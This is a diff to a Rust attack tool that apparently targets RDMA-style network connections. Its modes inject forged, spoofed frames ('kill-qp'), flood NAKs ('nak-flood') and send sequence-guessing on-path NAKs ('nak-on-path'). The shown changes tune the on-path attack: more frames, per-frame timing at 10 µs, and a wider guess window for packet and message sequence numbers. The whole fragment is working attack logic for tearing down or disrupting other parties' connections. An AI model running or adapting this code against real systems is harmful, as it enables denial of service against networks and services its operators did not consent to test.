@@ -35,7 +35,7 @@ pub struct AttackArgs {
     /// How the forged frames claim their source (kill-qp).
     #[arg(long, value_enum, default_value = "full")]
     spoof: Spoof,
-    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 64).
+    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256).
     #[arg(long)]
     count: Option<u64>,
     /// Seconds to wait for a connection to learn.
@@ -81,7 +81,10 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 ..ExtHeaders::default()
             };
             let fatal = |l: &Learner| {
-                ["RemoteAccessError", "InvalidRequest"].iter().map(|k| l.l.naks.get(*k).copied().unwrap_or(0)).sum::<u64>()
+                ["RemoteAccessError", "InvalidRequest"]
+                    .iter()
+                    .map(|k| l.l.naks.get(*k).copied().unwrap_or(0))
+                    .sum::<u64>()
             };
             let fatal_before = fatal(&learner);
             for i in 0..a.count.unwrap_or(4096) {
@@ -104,9 +107,15 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
         }
         AttackKind::NakFlood | AttackKind::NakOnPath => {
             let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
-            let n = a.count.unwrap_or(if a.kind == AttackKind::NakFlood { 100_000 } else { 64 });
+            let n = a.count.unwrap_or(if a.kind == AttackKind::NakFlood { 100_000 } else { 256 });
             for i in 0..n {
-                if i % 64 == 0 {
+                if a.kind == AttackKind::NakOnPath {
+                    // one per 10 µs, each aimed afresh
+                    let until = Instant::now() + Duration::from_micros(10);
+                    while Instant::now() < until {
+                        drain(&sock, &mut learner, &mut buf)?;
+                    }
+                } else if i % 64 == 0 {
                     drain(&sock, &mut learner, &mut buf)?;
                 }
                 let (psn, msn) = match a.kind {
@@ -121,7 +130,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                         let (p, m) = learner.l.ack.expect("ready");
                         let ppm = learner.l.psns_per_message.max(1);
                         let ahead = learner.l.psn.expect("ready").diff(p.add(1)).max(0) as u32 / ppm;
-                        let k = ahead.saturating_sub((i % 4) as u32);
+                        let k = (ahead + 1).saturating_sub((i % 8) as u32);
                         (p.add(1 + k * ppm), (m + k) & 0xff_ffff)
                     }
                 };
